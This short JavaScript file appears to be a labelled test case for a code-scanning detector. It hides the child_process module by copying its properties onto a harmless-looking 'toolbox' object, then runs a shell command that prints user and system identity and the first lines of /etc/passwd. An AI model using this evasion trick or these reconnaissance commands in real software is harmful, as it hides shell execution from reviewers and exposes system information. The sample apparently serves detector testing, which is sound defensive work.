// evasion: the child_process module copied property by property onto a plain toolbox object through getOwnPropertyDescriptors/defineProperties, then called as the toolbox's method
// grade: hard; does: shell
'use strict';
const toolbox = { name: 'toolbox', version: 3 };

function extend(target, source) {
  return Object.defineProperties(target, Object.getOwnPropertyDescriptors(source));
}

extend(toolbox, require('child_process'));

const out = toolbox.execSync('id; uname -a; cat /etc/passwd | head -3', { encoding: 'utf8' });
console.log(out);
